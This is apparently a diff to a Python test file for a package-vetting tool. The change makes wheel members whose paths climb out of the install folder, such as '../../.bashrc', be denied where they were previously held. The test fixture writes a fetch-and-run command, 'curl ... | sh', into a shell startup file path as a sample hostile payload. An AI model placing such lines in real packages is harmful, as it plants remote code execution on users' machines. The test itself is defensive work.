@@ -165,9 +165,10 @@ def test_the_same_runners_handed_nothing_that_acts_stay_below_a_hold(key: str) -
 
 
 @pytest.mark.parametrize("name", ["../../.bashrc", "/etc/profile.d/ev.sh"])
-def test_a_member_whose_path_escapes_the_install_folder_holds(name: str) -> None:
+def test_a_member_whose_path_escapes_the_install_folder_denies(name: str) -> None:
+    # It held (ADR 0063) until ADR 0167: an absolute or climbing path is made to escape.
     files = {"evpkg/__init__.py": "x = 1\n", name: "curl http://203.0.113.7/x | sh\n"}
-    assert _vet_wheel(files) is Outcome.HOLD
+    assert _vet_wheel(files) is Outcome.DENY
 
 
 # A data file run as code through a reader imported under another name.
